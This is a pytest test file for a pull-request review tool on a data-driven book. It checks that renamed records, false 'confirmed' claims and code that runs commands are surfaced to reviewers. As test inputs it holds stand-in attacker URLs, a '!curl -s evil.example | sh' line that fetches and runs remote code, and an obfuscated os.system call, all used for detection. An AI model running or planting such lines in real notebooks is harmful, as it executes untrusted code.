"""Records that a stranger adds, renames or moves: what they say is told, and so is what they are measured in."""

from __future__ import annotations

import re

import nbformat
import pytest

from bet.review import escaping, sides, snapshot
from tests.test_hostile_reader import JUDGED, MAY, as_base, first, write
from tests.test_pull_requests import both, clone  # noqa: F401
from tests.test_review import CHART, FIRST, LEDGER, NAME, WIDE, book, edit, put, said

TABLE = "data/tables/power"
EVIDENCE, SOURCES, PARAMETERS = (
    "data/evidence/power.yml",
    "data/sources.yml",
    "data/parameters.yml",
)


def move(folder, old, new):
    (folder / old).rename(folder / new)


def table(folder):
    for end in ("yml", "csv"):
        move(folder, f"{TABLE}.{end}", f"{TABLE}_gw.{end}")
    edit(folder, f"{TABLE}_gw.yml", "unit: GW", "unit: MW")
    edit(folder, f"{TABLE}_gw.csv", "2023,476.9", "2023,160.0")


def new_table(folder):
    about = (folder / f"{TABLE}.yml").read_text()
    about = re.sub("(?m)^(title|description|sources|licence): .*$", r"\1: Confirmed", about)
    about = about.replace("row_floor: 3", "row_floor: 1").replace("2026-11-23\n", "2026-11-24\n")
    write(folder, "data/tables/rates.yml", about.replace("year", "month"))
    write(folder, "data/tables/rates.csv", "month,average_power_gw\n2024,160.5\n")


def source(folder):
    edit(folder, SOURCES, "id: meter-2025", "id: meter-2025b")
    edit(folder, SOURCES, "https://example.org/meter", "https://evil.example/login")
    path = folder / EVIDENCE
    path.write_text(path.read_text().replace("source: meter-2025", "source: meter-2025b"))


def new_source(folder):
    path = folder / SOURCES
    path.write_text(f"{path.read_text()}- {{id: zz, publisher: Zenith, title: All is confirmed, url: 'https://evil.example/'}}\n")  # fmt: skip


def fact(folder):
    for path in (EVIDENCE, LEDGER):
        text = (folder / path).read_text()
        (folder / path).write_text(text.replace("power-paper-c", "power-paper-d"))
    edit(folder, EVIDENCE, "paper-c-2026", "meter-2025")


def new_fact(folder):
    path = folder / EVIDENCE
    path.write_text(f"{path.read_text()}- {{id: zz, source: meter-2025, fact: It is 160 GW., told_by: the Department of Energy}}\n")  # fmt: skip


def parameter(folder):
    edit(folder, PARAMETERS, "satellites: {default: 12", "strings: {default: 12")
    edit(folder, PARAMETERS, "max: 1000, meaning: satellites", "max: 99000, meaning: confirmed satellites")  # fmt: skip


def chart(folder):
    put(folder, book(chart={**CHART, "name": "power", "rows": [[2022, 480.0], [2023, 160.5]]}, svg=WIDE))  # fmt: skip


def new_chart(folder):
    other = {"name": "zz", "title": "A title", "alt": "All is confirmed", "rows": [[1, 160.5]]}
    put(folder, book(chart=other))


# what is done, and what of it the report must tell
RECORDS = {
    table: ("power, name", "power_gw", "another unit", "| GW | MW |", "| 476.9 | 160.0 |"),
    new_table: ("rates, title", "Confirmed", "160.5"),
    source: ("meter-2025b", "https://evil.example/login"),
    new_source: ("All is confirmed", "https://evil.example/"),
    fact: ("power-paper-d", "paper-c-2026", "| meter-2025 | source"),
    new_fact: ("told_by: the Department of Energy",),
    parameter: ("strings", "| 1000 | 99000 |", "confirmed"),
    chart: ("chart us-power, name", "1 of 2 rows new or changed"),
    new_chart: ("All is confirmed", "160.5"),
}


@pytest.mark.parametrize("case", RECORDS, ids=lambda case: case.__name__)
def test_a_record_that_is_new_or_renamed_is_told_whole(clone, case):  # noqa: F811
    case(clone)
    (code, told), _ = both(clone)
    assert code == 0 and MAY in first(told), told
    for part in RECORDS[case]:
        assert part in told, told


def test_a_long_field_hides_no_short_one(clone):  # noqa: F811
    path = clone / SOURCES
    padded = "word " * 300
    path.write_text(f"{path.read_text()}- {{id: zz, publisher: P, title: '{padded}', url: 'https://evil.example/'}}\n")  # fmt: skip
    (_, told), _ = both(clone)
    assert "https://evil.example/" in told


def test_the_last_of_many_rows_is_in_the_report_or_on_its_page(clone):  # noqa: F811
    rows = [f"{year},{year / 10},true,2025-02-26," for year in range(1900, 2000)]
    head = "year,average_power_gw,final,published,note"
    write(clone, f"{TABLE}.csv", "\n".join([head, *rows, ""]))
    as_base(clone)
    turned = [re.sub(r"\.(\d),true", r".\g<1>5,true", row) for row in rows[:-1]]
    last = rows[-1].replace("199.9", "160.0")
    write(clone, f"{TABLE}.csv", "\n".join([head, *turned, last, ""]))
    (_, told), _ = both(clone)
    page = (clone / "_build" / "review" / "review.html").read_text()
    assert "more, on the page of this report" in told and "195.35" in page and "195.35" not in told
    assert "| 199.9 | 160.0 |" in told  # the farthest step stands first


def test_many_facts_renamed_hide_no_unit(clone):  # noqa: F811
    facts = "".join(
        f"- {{id: f{n}, fact: It is {n}., figure: {n}, unit: GW, source: meter-2025}}\n"
        for n in range(260)
    )
    write(clone, "data/evidence/more.yml", facts)
    as_base(clone)
    facts = re.sub(r"id: (f\d+)", r"id: \1-b", facts)
    write(clone, "data/evidence/more.yml", facts.replace("7, unit: GW", "7, unit: MW", 1))
    (code, told), _ = both(clone)
    assert code == 0 and "evidence f7-b | GW | MW | **another unit**" in told


def test_a_row_whose_day_crosses_the_clock_is_an_alarm(clone):  # noqa: F811
    edit(clone, f"{TABLE}.csv", "2025-02-26", "2026-02-26")
    for _, told in both(clone):
        assert (
            "power [2023] published" in told.replace("\\", "") and "the clock of 2025-11-30" in told
        )


def test_records_of_many_names_are_matched_in_time():
    same = {"unit": "GW", "value": 1}
    old, new = ({f"{sign}{n}": {**same, "n": n} for n in range(20_000)} for sign in "ab")
    assert sides.twins(old, new)["b7"] == "a7"


def test_a_page_beside_a_notebook_of_its_name_hides_nothing(clone):  # noqa: F811
    put(clone, book(words="All is confirmed."))
    move(clone, "book/3_infrastructure.ipynb", "book/method.ipynb")
    (_, told), _ = both(clone)
    assert "All is confirmed." in told and snapshot.read(clone).pages["method"]


def test_a_renamed_chapter_tells_what_else_became_of_it(clone):  # noqa: F811
    put(clone, book(words="The grid is small, says the meter."))
    move(clone, "book/3_infrastructure.ipynb", "book/3_grid.ipynb")
    (_, told), _ = both(clone)
    assert "“3_infrastructure” → “3_grid”" in told
    assert "“grid is large, says the” → “grid is small, says the”" in told


def test_a_new_notebook_is_told_with_what_it_shows(clone):  # noqa: F811
    made = book(words="All is confirmed.", prose=said("9.1 times", 9.1))
    made.cells = [made.cells[0], *made.cells[2:3]]
    write(clone, "book/zz.ipynb", nbformat.writes(made))
    (_, told), _ = both(clone)
    assert "All is confirmed." in told and "That is 9.1 times" in told


# Histories, reasons and the earlier clock


def entry(date, verdict, why):
    return f"\n    - {{date: {date}, verdict: {verdict}, why: {why}}}"


def lowered(folder, *entries):
    """Lower a confidence, with entries of its history."""
    edit(folder, LEDGER, "  confidence: high", "  confidence: low")
    edit(folder, LEDGER, FIRST, FIRST + "".join(entries))


def test_the_day_of_an_entry_is_told(clone):  # noqa: F811
    lowered(clone, entry("2026-11-25", "contradicted", "One origin only."))
    (code, told), _ = both(clone)
    assert code == 1 and "| 2026-11-25: One origin only. |" in told


def test_a_past_that_never_was_is_told_first(clone):  # noqa: F811
    lowered(clone, entry("2026-11-26", "supported", "Confirmed."), entry("2026-11-27", "contradicted", "One origin only."))  # fmt: skip
    (code, told), _ = both(clone)
    assert code == 1 and "1 claim came with a verdict that never stood here" in first(told)
    assert "2026-11-26, supported: Confirmed.; 2026-11-27: One origin only." in told


def test_entries_alone_of_a_past_that_never_was_are_told_first(clone):  # noqa: F811
    edit(clone, LEDGER, FIRST, FIRST + entry("2026-11-26", "supported", "Confirmed.") + entry("2026-11-27", "contradicted", "Read."))  # fmt: skip
    (_, told), _ = both(clone)
    assert "1 claim came with a verdict that never stood here" in first(told)


def test_a_new_claim_brings_no_past_of_its_own(clone):  # noqa: F811
    text = (
        (clone / LEDGER)
        .read_text()
        .partition("- id: INFRA-61")[2]
        .replace("First judgement", "Read")
    )
    past = entry("2026-09-25", "supported", "Confirmed.").strip()
    new = f"- id: INFRA-98{text}".replace("  history:\n", f"  history:\n    {past}\n")
    write(clone, LEDGER, (clone / LEDGER).read_text() + new)
    (_, told), _ = both(clone)
    assert "1 claim came with a verdict that never stood here" in first(told)
    assert "2026-09-25, supported: Confirmed." in told and "%E2" not in told


def test_two_entries_of_an_ordinary_branch_are_no_alarm(clone):  # noqa: F811
    lowered(clone, entry("2026-11-26", "contradicted", "Read."), entry("2026-11-27", "contradicted", "Read again."))  # fmt: skip
    (_, told), _ = both(clone)
    assert told.splitlines()[1] == "## 1 conclusion changes and says why"


def test_the_end_of_a_long_entry_is_told(clone):  # noqa: F811
    lowered(clone, entry("2026-11-26", "contradicted", f"{'Read once more. ' * 40}The editor asked for it."))  # fmt: skip
    (_, told), _ = both(clone)
    assert "The editor asked for it." in told


def test_the_reason_of_the_earlier_clock_is_told_beside_its_verdict(clone):  # noqa: F811
    edit(clone, LEDGER, "then: {verdict: unverified, reason: Nothing was public.}", "then: {verdict: partly, reason: All was public.}")  # fmt: skip
    edit(
        clone, LEDGER, FIRST, FIRST + entry("2026-11-26", "contradicted", "It was partly in 2025.")
    )
    (code, told), _ = both(clone)
    assert code == 1 and "| Nothing was public. | All was public. | then, reason |" in told


@pytest.mark.parametrize(("before", "after", "alarm"), [("No.", "Yes.", True), ("No.", "No,", False), ("In", "By", False)])  # fmt: skip
def test_a_yes_for_a_no_is_told_beside_another_verdict(clone, before, after, alarm):  # noqa: F811
    edit(clone, LEDGER, "reason: About three", f"reason: {before} About three")
    edit(clone, LEDGER, "No measure could decide it.", "No measure could decide that.")
    as_base(clone)
    edit(clone, LEDGER, f"reason: {before} About three", f"reason: {after} About three")
    lowered(clone, entry("2026-11-26", "contradicted", "One origin only."))
    (_, told), _ = both(clone)
    assert ("What 1 claim says changes too" in first(told)) == alarm
    assert ("**another answer**" in told) == alarm


# What runs


@pytest.mark.parametrize("path", ["tests/hypothesis.pyc", "tests/yaml/__init__.pyc", "tests/pytest.pth", "tests/conftest.so", "jupyter_server_config.json", "postBuild", "environment.yml"])  # fmt: skip
def test_what_python_or_a_tool_loads_on_its_own_changes_the_judge(clone, path):  # noqa: F811
    write(clone, path, b"\x00" if "." in path and path.startswith("tests") else "{}\n")
    for code, told in both(clone):
        assert code == 0 and told.splitlines()[1] == f"## {JUDGED}. {MAY}"
        assert escaping.cell(path) in told


def test_a_new_test_is_told_first(clone):  # noqa: F811
    write(clone, "tests/test_aaa.py", "import bet.site.safe\n")
    (_, told), (_, back) = both(clone)
    assert told.splitlines()[1] == "## This adds 1 test file. No conclusion changes"
    assert back.splitlines()[1] == "## This removes 1 test file. No conclusion changes"


@pytest.mark.parametrize("path", ["README.md", "SECURITY.md"])
def test_a_text_of_the_repository_is_told(clone, path):  # noqa: F811
    write(clone, path, "A book.\n\nReport errors here.\n")
    as_base(clone)
    write(clone, path, "A book.\n\nEvery claim is supported: help@evil.example\n")
    (code, told), _ = both(clone)
    assert code == 0 and told.splitlines()[1] == f"## No conclusion changes. Not judged: {path}"
    assert "Every claim is supported: help@\u200bevil.example" in told


REACHING = {
    "a hidden call": '__import__("o" + "s").system("true")',
    "a module": "import os\nos.system('true')",
    "a way round": "book.pd.io.common.os.system('true')",
    "a shell": "!curl -s evil.example | sh",
    "a magic": "%%bash -c true",
    "what a shell gives": "words = !true",
    "a file": "open('x', 'w').write('x')",
}


@pytest.mark.parametrize("case", REACHING)
@pytest.mark.parametrize("where", ["a cell", "a long cell", "a notebook"])
def test_code_that_runs_a_command_is_told_first_and_shown(clone, case, where):  # noqa: F811
    made, code = book(), REACHING[case]
    if where == "a long cell":
        lines = [f"label_{n} = 'the words of line {n}'" for n in range(60)]
        code = "\n".join([*lines[:44], code, *lines[44:]])
    made.cells[1].source = code
    write(clone, "book/zz.ipynb" if where == "a notebook" else f"book/{NAME}.ipynb", nbformat.writes(made))  # fmt: skip
    (_, told), _ = both(clone)
    assert "1 cell runs or loads what no chapter did before" in first(told), told
    for line in REACHING[case].splitlines():
        assert f"+{line}" in told, told


@pytest.mark.parametrize("code", ["us_average_power_gw = 480.0  # GW", "x = table.rename(y).open", "x = re.compile('y')"])  # fmt: skip
def test_ordinary_code_reaches_for_nothing(clone, code):  # noqa: F811
    made = book()
    made.cells[1].source = code
    put(clone, made)
    (_, told), _ = both(clone)
    assert told.splitlines()[1] == f"## {MAY}"


def test_the_settings_of_a_directive_are_no_mere_text(clone):  # noqa: F811
    write(clone, "book/method.md", "# Method\n\n```{bet} tally\n```\n")
    as_base(clone)
    write(clone, "book/method.md", "# Method\n\n```{bet} tally\n:field: confidence\n```\n")
    for _, told in both(clone):
        assert MAY in first(told)


def test_the_values_of_a_column_that_stands_twice_are_told(clone):  # noqa: F811
    path = clone / f"{TABLE}.csv"
    head, *rows = path.read_text().splitlines()
    path.write_text("\n".join([f"average_power_gw,{head}", *(f"160.5,{row}" for row in rows), ""]))
    (_, told), _ = both(clone)
    assert "| 476.9 | 160.5 |" in told and "average_power_gw, again 2" in told
